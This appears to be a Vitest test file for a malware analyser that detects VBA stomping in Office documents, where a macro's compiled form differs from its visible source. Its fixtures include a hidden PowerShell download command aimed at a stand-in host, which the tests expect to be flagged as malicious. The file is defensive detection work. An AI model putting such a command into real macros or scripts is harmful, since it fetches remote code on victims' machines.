import { describe, expect, test } from 'vitest';
import { documentOf, type ProjectFixture } from '../../hostile/static/vba-fixture.ts';
import { reportOn } from './analyse.ts';

const SOURCE =
  'Sub Report()\r\nDim total As Long\r\nFor Each cell In Range("B2:B9")\r\ntotal = total + cell.Value\r\nNext\r\nMsgBox "Total: ""net"" " & total\r\nEnd Sub\r\n';
const NAMES = ['Report', 'total', 'cell', 'Range', 'Value', 'MsgBox'];
const TEXTS = ['B2:B9', 'Total: "net" '];
const COMMAND = 'powershell -w hidden -c "iwr http://files.example.invalid/a"';

async function stomping(fixture: ProjectFixture): Promise<string[]> {
  const { findings } = await reportOn(documentOf(fixture), 'a.docm');
  return findings.map(({ id }) => id).filter((id) => /^vba-(?:stomped|source)/.test(id));
}

describe('a macro whose two forms agree raises no alarm', () => {
  test.each<[string, ProjectFixture]>([
    ['as saved', { source: SOURCE, names: NAMES, texts: TEXTS }],
    ['of 32 bits', { source: SOURCE, names: NAMES, texts: TEXTS, instruction: 0xb6 }],
    ['with names in other letters', { source: SOURCE.toLowerCase(), names: NAMES, texts: ['b2:b9'] }],
    ['with a text left over from before an edit', { source: SOURCE, names: NAMES, texts: [...TEXTS, 'Sum: '] }],
    ['with a form of many kilobytes', { source: SOURCE, names: NAMES, texts: TEXTS, codeBytes: 20_000 }],
    [
      'that reaches the system openly',
      {
        source: 'Sub AutoOpen()\r\nShell "cmd /c dir"\r\nEnd Sub',
        names: ['AutoOpen', 'Shell'],
        texts: ['cmd /c dir'],
      },
    ],
    ['without code', { source: '', names: [], codeBytes: 1_500 }],
  ])('%s', async (_, fixture) => {
    expect(await stomping(fixture)).toEqual([]);
  });
});

describe('a macro whose compiled form differs from its source', () => {
  test.each<[string, ProjectFixture, string[]]>([
    ['with a command', { source: SOURCE, names: NAMES, texts: [...TEXTS, COMMAND] }, ['vba-source-replaced']],
    [
      'with a command, of 32 bits',
      { source: SOURCE, names: NAMES, texts: [COMMAND], instruction: 0xb6 },
      ['vba-source-replaced'],
    ],
    [
      'with a command, of Office 97',
      { source: SOURCE, names: NAMES, texts: [COMMAND], instruction: 0xae },
      ['vba-source-replaced'],
    ],
    [
      'with names that act',
      { source: SOURCE, names: [...NAMES, 'AutoOpen', 'CreateObject'], texts: TEXTS },
      ['vba-source-differs'],
    ],
    [
      'with texts of another source',
      { source: SOURCE, names: NAMES, texts: ['one text', 'two texts', 'three texts'] },
      ['vba-source-differs'],
    ],
    [
      'under an empty source',
      { source: '', names: ['AutoOpen', 'Shell'], texts: ['one text', COMMAND] },
      ['vba-stomped', 'vba-source-differs'],
    ],
    ['under an empty source, of many kilobytes', { source: '', codeBytes: 9_000 }, ['vba-stomped']],
  ])('%s', async (_, fixture, expected) => {
    expect(await stomping(fixture)).toEqual(expected);
  });

  test('is a finding with its content, and that content is looked at', async () => {
    const report = await reportOn(
      documentOf({ source: SOURCE, names: [...NAMES, 'Shell'], texts: [COMMAND] }),
      'a.docm',
    );
    const of = (id: string) => report.findings.find((found) => found.id === id);
    expect(of('vba-source-replaced')).toMatchObject({ level: 'malicious', evidence: COMMAND });
    expect(of('vba-source-differs')).toMatchObject({ level: 'suspicious', evidence: 'Shell' });
    expect(report.iocs).toContainEqual({ type: 'url', value: 'http://files.example.invalid/a' });
  });
});
